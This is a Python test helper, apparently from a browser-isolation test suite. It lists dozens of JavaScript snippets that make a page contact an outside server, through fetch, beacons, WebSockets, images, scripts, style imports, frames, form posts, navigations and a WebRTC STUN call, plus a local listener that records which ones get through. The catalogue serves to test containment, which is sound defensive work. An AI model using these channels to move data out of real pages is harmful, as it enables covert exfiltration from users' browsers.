"""Every way out of a page that is known, and a listener who would notice. Knows nothing of the product.

A way is JavaScript `(url) => ...`; whether it worked is told by the listener alone, never by what the way returns.
"""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Final

QUIET: Final = 1.0
"""Seconds after the last way in which a late request would still come."""

_ELEMENT = "(url) => document.body.append(Object.assign(document.createElement('{tag}'), {{ {set} }}))"


def _element(tag: str, setting: str) -> str:
    return _ELEMENT.format(tag=tag, set=setting)


def _link(rel: str, more: str = "") -> str:
    made = f"Object.assign(document.createElement('link'), {{ rel: '{rel}', href: url{more} }})"
    return f"(url) => document.head.append({made})"


REQUESTS: Final = {
    "fetch": "(url) => fetch(url, { mode: 'no-cors' })",
    "fetch with a body": "(url) => fetch(url, { method: 'POST', body: 'x', mode: 'no-cors' })",
    "fetch that outlives the page": "(url) => fetch(url, { mode: 'no-cors', keepalive: true })",
    "request": "(url) => { const x = new XMLHttpRequest(); x.open('POST', url); x.send('x'); }",
    "socket": "(url) => { new WebSocket(url.replace('http', 'ws')); }",
    "stream of events": "(url) => { new EventSource(url); }",
    "beacon": "(url) => { navigator.sendBeacon(url, 'x'); }",
    "ping": """(url) => {
        const a = Object.assign(document.createElement('a'), { href: '#x', ping: url });
        document.body.append(a); a.click(); }""",
    "image": "(url) => { new Image().src = url; }",
    "picture set": _element("img", "srcset: url + ' 1x'"),
    "sound": "(url) => { const a = new Audio(url); a.load(); }",
    "film": _element("video", "src: url, preload: 'auto'"),
    "poster": _element("video", "poster: url"),
    "script": _element("script", "src: url"),
    "module": _element("script", "src: url, type: 'module'"),
    "import": "(url) => import(url)",
    "worker": "(url) => { new Worker(url); }",
    "style sheet": _link("stylesheet"),
    "style that imports": "(url) => { const s = document.createElement('style');"
    " s.textContent = `@import '${url}';`; document.head.append(s); }",
    "style attribute": """(url) => {
        const box = document.createElement('p'); box.textContent = 'x'; document.body.append(box);
        box.setAttribute('style', `background: url(${url})`); }""",
    "style by script": """(url) => {
        const box = document.createElement('p'); box.textContent = 'x'; document.body.append(box);
        box.style.backgroundImage = `url(${url})`; }""",
    "font": "(url) => new FontFace('x', `url(${url})`).load()",
    "icon": _link("icon"),
    "prefetch": _link("prefetch"),
    "preload": _link("preload", ", as: 'fetch', crossOrigin: 'anonymous'"),
    "module preload": _link("modulepreload"),
    "frame": _element("iframe", "src: url"),
    "frame with text": """(url) => document.body.append(
        Object.assign(document.createElement('iframe'), { srcdoc: `<img src="${url}">` }))""",
    "empty frame's own fetch": """(url) => {
        const frame = document.createElement('iframe'); document.body.append(frame);
        return frame.contentWindow.fetch(url, { mode: 'no-cors' }); }""",
    "object": _element("object", "data: url"),
    "embed": _element("embed", "src: url"),
    "form to a frame": """(url) => {
        const frame = Object.assign(document.createElement('iframe'), { name: 'there' });
        const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: 'there' });
        document.body.append(frame, form); form.submit(); }""",
    "window": "(url) => { window.open(url); }",
    "link to a window": """(url) => {
        const a = Object.assign(document.createElement('a'), { href: url, target: '_blank' });
        document.body.append(a); a.click(); }""",
}
"""Ways out that leave the page where it is."""
NAVIGATIONS: Final = {
    "address": "(url) => { location.href = url; }",
    "replaced address": "(url) => { location.replace(url); }",
    "navigation": "(url) => { navigation.navigate(url); }",
    "link": "(url) => { const a = document.createElement('a'); a.href = url; document.body.append(a); a.click(); }",
    "form": """(url) => {
        const form = Object.assign(document.createElement('form'), { action: url });
        document.body.append(form); form.submit(); }""",
    "refresh": """(url) => {
        const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0; url=${url}` });
        document.head.append(meta); }""",
    "frame that takes its parent away": """(url) => {
        const frame = document.createElement('iframe'); document.body.append(frame);
        frame.contentWindow.parent.location = url; }""",
}
"""Ways out that take the page along: the address itself carries something."""
CALL: Final = """async (port) => {
  const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
  call.createDataChannel("x");
  await call.setLocalDescription(await call.createOffer());
}"""
"""A way out of its own kind: not a request, but a call to anybody (WebRTC)."""


class Elsewhere(ThreadingHTTPServer):
    """Somebody else's server, who would answer anything, and keeps the paths that reach it."""

    daemon_threads = True
    page = b"<!DOCTYPE html><html lang=id><title>elsewhere</title><body>"

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.reached: list[str] = []
        self.calls = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.calls.bind(("127.0.0.1", 0))
        self.calls.settimeout(0)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}/"

    def called(self, seconds: float) -> bool:
        """Whether a datagram comes within some seconds."""
        self.calls.settimeout(seconds)
        try:
            return bool(self.calls.recvfrom(4096))
        except TimeoutError:
            return False


class _Answer(BaseHTTPRequestHandler):
    server: Elsewhere

    def _answer(self) -> None:
        self.server.reached.append(self.path.strip("/?"))
        page = self.path == "/"
        body = Elsewhere.page if page else b""
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/html" if page else "text/javascript")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = _answer  # noqa: N815 - as http.server wants them called

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextmanager
def listening() -> Iterator[Elsewhere]:
    """Elsewhere, as long as it is needed."""
    with Elsewhere() as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join()
        server.calls.close()


def path(way: str) -> str:
    """What reaches a server by this way."""
    return way.replace(" ", "-").replace("'", "")
